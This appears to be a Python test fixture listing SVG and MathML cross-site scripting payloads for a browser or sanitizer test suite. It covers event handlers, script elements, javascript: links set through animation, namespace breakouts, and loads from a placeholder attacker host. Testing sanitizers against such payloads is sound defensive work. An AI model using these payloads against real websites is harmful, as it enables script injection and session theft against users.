"""SVG and MathML: elements with rules of their own, and ways back into HTML."""

from typing import Final

from tests.browser.attack import EVIL, HIT, IMG, attacks

_JS: Final = f"javascript:{HIT}"

_SVG: Final = {
    "load": f"<svg onload={HIT}></svg>",
    "load, slash": f"<svg/onload={HIT}//>",
    "inner load": f"<svg><svg onload={HIT}></svg></svg>",
    "script": f"<svg><script>{HIT}</script></svg>",
    "script, entities": "<svg><script>window&#46;__hit&lpar;1&rpar;</script></svg>",
    "script, cdata": f"<svg><script><![CDATA[{HIT}]]></script></svg>",
    "script, comment": f"<svg><script><!-- -->{HIT}</script></svg>",
    "script, elements inside": f"<svg><script><a/>{HIT}</script></svg>",
    "script, src": f"<svg><script href={EVIL}/s.js></script></svg>",
    "script, self-closed": f"<svg><script xlink:href={EVIL}/s.js /></svg>",
    "script, prefix": f"<svg:svg><svg:script>{HIT}</svg:script></svg:svg>",
    "image error": f"<svg><image href=x onerror={HIT} /></svg>",
    "image load": f"<svg><image xlink:href={EVIL}/i.png onload={HIT} /></svg>",
    "focus": f"<svg><rect tabindex=0 autofocus onfocus={HIT} width=9 height=9 /></svg>",
    "click": f"<svg><g onclick={HIT}><rect width=9 height=9 /></g></svg>",
    "animate begin": f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    "animate end": f"<svg><animate onend={HIT} attributeName=x dur=1ms></svg>",
    "animate repeat": f"<svg><animate onrepeat={HIT} attributeName=x dur=1ms repeatCount=2></svg>",
    "set begin": f"<svg><set onbegin={HIT} attributeName=x to=1 dur=1s></svg>",
    "animateTransform begin": (
        f"<svg><animateTransform onbegin={HIT} attributeName=transform dur=1s></svg>"
    ),
    "animateMotion begin": f"<svg><animateMotion onbegin={HIT} path=M0,0 dur=1s></svg>",
    "discard begin": f"<svg><discard onbegin={HIT} begin=0s /></svg>",
    "set href": f"<svg><a><set attributeName=href to={_JS} /><text y=9>x</text></a></svg>",
    "set xlink:href": (
        f"<svg><a><set attributeName=xlink:href to={_JS} /><text y=9>x</text></a></svg>"
    ),
    "animate href by values": (
        f"<svg><a><animate attributeName=href values={_JS} dur=9s /><text y=9>x</text></a></svg>"
    ),
    "animate href from and to": (
        f"<svg><a><animate attributeName=href from={_JS} to=# dur=9s /><text y=9>x</text></a></svg>"
    ),
    "animate href elsewhere": (
        f"<svg><animate href=#a attributeName=href values={_JS} dur=9s />"
        "<a id=a><text y=9>x</text></a></svg>"
    ),
    "animate href, split": (
        f"<svg><a><set attributeName=href to='java&#9;script:{HIT}' /><text y=9>x</text></a></svg>"
    ),
    "set a handler": f"<svg><set attributeName=onmouseover to={HIT} /></svg>",
    "use outside": f"<svg><use href={EVIL}/s.svg#x /></svg>",
    "use of the same site": "<svg><use href=/s.svg#x /></svg>",
    "use of a link": (
        f"<svg><defs><a id=a href={_JS}><text y=9>x</text></a></defs><use href=#a /></svg>"
    ),
    "feImage": f"<svg><filter id=f><feImage href={EVIL}/i.svg /></filter></svg>",
    "filter of another": f"<svg><rect filter=url({EVIL}/f.svg#f) width=9 height=9 /></svg>",
    "mask of another": f"<svg><rect mask=url({EVIL}/m.svg#m) width=9 height=9 /></svg>",
    "style import": f"<svg><style>@import'{EVIL}/s.css'</style></svg>",
    "style, entities": f"<svg><style>@import&apos;{EVIL}/e.css&apos;</style></svg>",
    "foreignObject": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    "foreignObject body": f"<svg><foreignObject><body onload={HIT}></foreignObject></svg>",
    "foreignObject iframe": f"<svg><foreignObject><iframe src={_JS}></iframe></svg>",
    "title": f"<svg><title>{IMG}</title></svg>",
    "desc": f"<svg><desc>{IMG}</desc></svg>",
    "breakout": f"<svg><p>{IMG}",
    "breakout by font": f"<svg><g><font size=1>{IMG}",
    "breakout by end tag": f"<svg></p>{IMG}",
    "font face": f"<svg><font-face-uri href={EVIL}/f.svg /></svg>",
    "handler element": f"<svg><handler type=text/javascript>{HIT}</handler></svg>",
    "listener": f"<svg><listener event=load handler={_JS} /></svg>",
    "switch": f"<svg><switch><a href={_JS}><text y=9>x</text></a></switch></svg>",
    "cursor": f"<svg><rect cursor='url({EVIL}/c.png),auto' width=9 height=9 /></svg>",
    "many namespaces deep": "<svg><desc>" * 40 + IMG,
}

_MATH: Final = {
    "click": f"<math onclick={HIT}><mi>x</mi></math>",
    "focus": f"<math><mi tabindex=0 autofocus onfocus={HIT}>x</mi></math>",
    "mtext": f"<math><mtext>{IMG}</mtext></math>",
    "mi": f"<math><mi>{IMG}</mi></math>",
    "mo script": f"<math><mo><iframe srcdoc='{IMG}'></iframe></mo></math>",
    "mglyph": f"<math><mtext><mglyph>{IMG}</mglyph></mtext></math>",
    "malignmark": f"<math><mtext><malignmark>{IMG}</malignmark></mtext></math>",
    "annotation": (
        f"<math><semantics><annotation-xml encoding=text/html>{IMG}</annotation-xml></math>"
    ),
    "annotation, xhtml": (
        f"<math><annotation-xml encoding=APPLICATION/xhtml+xml>{IMG}</annotation-xml></math>"
    ),
    "annotation, svg": f"<math><annotation-xml><svg onload={HIT}></svg></annotation-xml></math>",
    "style": f"<math><style>{IMG}</style></math>",
    "script": f"<math><script>{HIT}</script></math>",
    "href of a row": f"<math><mrow href={_JS}><mi>x</mi></mrow></math>",
    "breakout": f"<math><p>{IMG}",
    "svg in math": f"<math><svg onload={HIT}></math>",
    "math in svg": f"<svg><foreignObject><math><mtext>{IMG}",
    "maction": f"<math><maction actiontype=toggle onclick={HIT}><mi>x</mi></maction></math>",
}

ATTACKS: Final = (*attacks("svg", _SVG), *attacks("mathml", _MATH))
